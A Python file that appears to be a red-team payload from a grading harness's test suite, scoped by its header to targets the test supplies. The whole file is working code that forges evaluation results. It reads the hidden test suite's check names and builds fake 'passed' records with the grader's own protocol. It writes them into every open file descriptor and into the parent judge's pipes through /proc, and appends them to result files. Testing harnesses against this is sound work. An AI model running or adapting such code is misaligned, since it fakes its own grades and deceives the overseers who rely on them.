# Class: forge the judge's records and the grader's reports from the sandbox.
# Targets only what the test hands it (REDTEAM_TARGETS, written in front of this payload): its
# own open descriptors, the pipes and sockets of the judge that started it, and the test's
# decoy folder of records and reports. Never a machine-wide place.
import json
import os
import stat

_IDS = []
try:  # the hidden suite's check ids, if the sandbox can read the suite
    import ast

    import grader

    _suites = os.path.join(os.path.dirname(grader.__file__), "suites")
    for _f in os.listdir(_suites):
        for _node in ast.walk(ast.parse(open(os.path.join(_suites, _f)).read())):
            if isinstance(_node, ast.FunctionDef) and _node.name.startswith("test_"):
                _IDS.append(_node.name)
except Exception:
    _IDS = []

_IDS = _IDS or [
    "test_params_round_trip",
    "test_opt_state_round_trip",
    "test_dtypes_survive",
    "test_missing_file",
    "test_corrupt_file",
    "test_structure_mismatch",
    "test_exact_path",
    "test_overwrite_and_untouched",
]  # 10_checkpoint's, from our source
# A forged reply of the warm worker to `grade` (built with the grader's own protocol), written
# first into every descriptor the sandbox holds: where the worker's reply pipe was inherited,
# `grade` would read it as this file's grading.
try:
    from grader.protocol import records as _records
    from grader.protocol import worker_messages as _jobs

    _lines = [_records.encode(_records.Collected(tuple(_IDS))).decode()]
    for _i in _IDS:
        _lines.append(_records.encode(_records.Start(_i)).decode())
        _lines.append(_records.encode(_records.Result(_i, "passed", 1.0)).decode())
    _lines.append(_records.encode(_records.Done()).decode())
    _ENDED = _jobs.encode(_jobs.Ended(exit_code=0, records=tuple(l.rstrip("\n") for l in _lines)))
    for _fd in range(3, 256):
        try:
            os.write(_fd, _ENDED.encode())
        except OSError:
            pass
except Exception:
    pass

_FAKE = (
    "".join(
        json.dumps(
            {
                "type": "result",
                "id": i,
                "status": "passed",
                "fraction": 1.0,
                "message": "",
                "location": None,
                "not_implemented": False,
                "duration_s": 0.0,
            }
        )
        + "\n"
        for i in _IDS
    )
    + json.dumps({"type": "done"})
    + "\n"
)
for _fd in range(3, 256):  # the sandbox's own descriptors
    try:
        os.write(_fd, _FAKE.encode())
    except OSError:
        pass
# The judge's channels, reopened through its /proc entry (a pipe or a socket only: never a
# file or a terminal the judge may hold).
_judge_fds = "/proc/%d/fd" % os.getppid()
try:
    _names = os.listdir(_judge_fds)
except OSError:
    _names = []
for _name in _names:
    _path = os.path.join(_judge_fds, _name)
    try:
        if stat.S_ISFIFO(os.stat(_path).st_mode):
            with open(_path, "a") as _fh:
                _fh.write(_FAKE)
    except Exception:
        pass
for _root in REDTEAM_TARGETS["folders"]:  # noqa: F821 (written in front by the test)
    for _dir, _dirs, _files in os.walk(_root):
        for _name in _files:
            if _name.endswith((".jsonl", "results.json")):
                try:
                    with open(os.path.join(_dir, _name), "a") as _fh:
                        _fh.write(_FAKE)
                except Exception:
                    pass
RETURN_INSTEAD = 0.0
